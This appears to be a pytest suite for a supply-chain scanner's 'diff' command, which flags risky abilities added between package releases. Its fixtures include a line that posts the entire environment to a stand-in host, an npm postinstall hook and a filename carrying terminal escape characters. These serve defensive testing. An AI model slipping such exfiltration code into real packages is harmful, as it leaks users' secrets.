"""`ostiary diff`, from the words to the exit code."""

import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from ostiary.core.exits import Exit
from world import build
from world.front import Front, Said
from world.index import FakeIndex

GREET = "def greet(name):\n    return 'hello ' + name\n"
SEND = "import os, requests\n\nrequests.post('https://drop.example.invalid/in', json=dict(os.environ))\n"
QUIET = "import urllib.request\n\n\ndef go():\n    return urllib.request.urlopen('https://a.example.invalid')\n"


def put(front: Front, version: str, files: Mapping[str, str | bytes]) -> str:
    name, data = build.sdist("thing", version, files)
    (front.cwd / name).write_bytes(data)
    return f"./{name}"


def told(said: Said) -> Any:
    return json.loads(said.out)


def publish(index: FakeIndex, version: str, code: str) -> None:
    files = {"thing.py": code}
    index.publish(
        "thing",
        version,
        [build.wheel("thing", version, files), build.sdist("thing", version, files)],
    )


def test_two_archives_without_any_registry(front: Front, index: FakeIndex) -> None:
    old, new = put(front, "1.0", {"thing.py": GREET}), put(front, "1.1", {"thing.py": GREET + SEND})
    said = front("diff", old, new)
    first, *rest = said.out.splitlines()
    assert first.startswith("NEW   thing 1.0 (thing-1.0.tar.gz) -> thing 1.1 (thing-1.1.tar.gz)")
    assert first.endswith("4 new abilities, worst high") or "worst high" in first
    assert rest[1].split()[:2] == ["+", "high"]
    assert "thing-1.1/thing.py:5" in rest[1]
    assert said.code == Exit.FOUND
    assert not index.asked()


def test_the_same_again_is_nothing_new(front: Front) -> None:
    old, new = put(front, "1.0", {"thing.py": GREET}), put(front, "1.1", {"thing.py": GREET + "\n"})
    said = front("diff", old, new)
    assert said.out.startswith("NOTHING NEW")
    assert said.code == Exit.OK
    assert front("diff", new, new).code == Exit.OK


def test_what_weighs_little_does_not_fail(front: Front) -> None:
    old, new = (
        put(front, "1.0", {"thing.py": GREET}),
        put(front, "1.1", {"thing.py": GREET + QUIET}),
    )
    said = front("diff", old, new, "--format", "json")
    assert {one["severity"] for one in told(said)["new"]} == {"low"}
    assert said.code == Exit.OK


def test_the_threshold_is_an_option(front: Front) -> None:
    old, new = put(front, "1.0", {"thing.py": GREET}), put(front, "1.1", {"thing.py": GREET + SEND})
    assert front("diff", old, new, "--fail-on", "block").code == Exit.OK
    assert front("diff", new, old).code == Exit.OK


def test_json_holds_all_of_it(front: Front) -> None:
    old = put(front, "1.0", {"thing.py": GREET, "old.py": "A = 1\n", "was.py": "B = 22\n"})
    new = put(front, "1.1", {"thing.py": GREET + SEND, "new.py": "B = 22\n"})
    body = told(front("diff", old, new, "-f", "json"))
    assert body["schema"].endswith("/diff/1")
    assert body["decision"] == "review"
    [leak] = [one for one in body["new"] if one["sort"] == "leak"]
    assert (leak["path"], leak["line"], leak["severity"]) == ("thing-1.1/thing.py", 5, "high")
    assert {"path": "new.py", "how": "renamed", "old": "was.py"} in body["files"]["rows"]
    assert body["files"]["removed"] == 1
    assert not body["unread"]


def test_verbose_lists_every_file(front: Front) -> None:
    old, new = put(front, "1.0", {"a.py": "A = 1\n"}), put(front, "1.1", {"b.py": "A = 1\n"})
    said = front("diff", old, new, "--verbose")
    assert re.search(r"renamed +b\.py +\(was a\.py\)|renamed +b\.py \(was a\.py\)", said.out)


@pytest.mark.parametrize("words", [("thing==1.0", "thing==1.1"), ("thing", "1.0", "1.1")])
def test_two_releases_of_the_users_own_index(
    front: Front, index: FakeIndex, words: tuple[str, ...]
) -> None:
    publish(index, "1.0", GREET)
    publish(index, "1.1", GREET + SEND)
    said = front("diff", *words)
    assert said.out.startswith("NEW   thing 1.0 -> thing 1.1")
    assert said.out.count("sends away the whole environment on import") == 1
    assert said.code == Exit.FOUND


def test_npm_releases(front: Front, index: FakeIndex) -> None:
    index.publish_npm("thing", "1.0.0", None)
    index.publish_npm("thing", "1.1.0", {"scripts": {"postinstall": "node index.js"}})
    said = front("diff", "npm:thing", "1.0.0", "1.1.0", "-f", "json")
    assert "runs by itself: npm postinstall" in {one["text"] for one in told(said)["new"]}
    assert said.code == Exit.FOUND


def test_a_release_and_a_file_at_hand(front: Front, index: FakeIndex) -> None:
    publish(index, "1.0", GREET)
    new = put(front, "1.1", {"thing.py": GREET + SEND})
    assert front("diff", "thing==1.0", new).code == Exit.FOUND


def test_what_could_not_be_read_is_never_nothing_new(front: Front, index: FakeIndex) -> None:
    good = put(front, "1.0", {"thing.py": GREET})
    (front.cwd / "broken-1.1.tar.gz").write_bytes(b"\x1f\x8b" + b"x" * 50)
    said = front("diff", good, "./broken-1.1.tar.gz")
    assert said.out.startswith("CANNOT TELL ALL")
    assert said.code == Exit.INSUFFICIENT
    assert front("diff", "./broken-1.1.tar.gz", good).code == Exit.INSUFFICIENT
    publish(index, "1.0", GREET)
    publish(index, "1.1", GREET)
    index.tamper("thing-1.1.tar.gz")
    said = front("diff", "thing", "1.0", "1.1", "-f", "json")
    assert told(said)["unread"]
    assert said.code == Exit.INSUFFICIENT


def test_new_code_that_nobody_understands_is_insufficient(front: Front) -> None:
    broken = "}} (( ]] << ?? not code\n" * 40
    old, new = put(front, "1.0", {}), put(front, "1.1", {"more.py": broken})
    assert front("diff", old, new).code == Exit.INSUFFICIENT
    again = put(front, "1.2", {"more.py": broken})
    assert front("diff", new, again).code == Exit.OK


def test_questions_that_cannot_be_understood(front: Front, index: FakeIndex) -> None:
    publish(index, "1.0", GREET)
    assert front("diff", "thing==1.0", "other==1.0").code == Exit.USAGE
    assert front("diff", "thing").code == Exit.USAGE
    assert front("diff", "thing", "1.0", "9.9").code == Exit.USAGE
    assert front("diff", "./nothing.whl", "thing").code == Exit.USAGE


def test_hostile_names_are_shown_and_not_obeyed(front: Front) -> None:
    name = "\x1b[2J\u202ething.py"
    old, new = put(front, "1.0", {}), put(front, "1.1", {name: SEND})
    said = front("diff", old, new, "--verbose")
    assert "\x1b" not in said.out
    assert "\u202e" not in said.out
    as_json = front("diff", old, new, "-f", "json")
    assert "\x1b" not in as_json.out
    assert any(name in one["path"] for one in told(as_json)["files"]["rows"])


def test_the_report_goes_to_a_file(front: Front, tmp_path: Path) -> None:
    old, new = put(front, "1.0", {}), put(front, "1.1", {})
    said = front("diff", old, new, "-o", str(tmp_path / "out.txt"))
    assert not said.out
    assert (tmp_path / "out.txt").read_text().startswith("NOTHING NEW")
